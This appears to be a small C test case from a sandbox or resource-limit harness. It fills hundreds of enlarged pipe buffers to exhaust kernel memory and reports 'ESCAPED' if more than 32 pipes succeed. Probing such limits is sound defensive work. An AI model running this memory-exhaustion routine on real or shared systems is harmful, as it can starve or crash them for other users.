#include "attack.h"

int main(void) {
  static char block[1 << 16];
  size_t written = 0;
  int ends[2], pipes = 0;
  while (pipes < 500 && pipe(ends) == 0) {
    ++pipes;
    fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
    fcntl(ends[1], F_SETFL, O_NONBLOCK);
    for (ssize_t n; (n = write(ends[1], block, sizeof block)) > 0;) written += n;
  }
  if (pipes > 32) ESCAPED("%d pipes, %zu MB", pipes, written >> 20);
  printf("%d pipes, %zu MB\n", pipes, written >> 20);
  return 0;
}
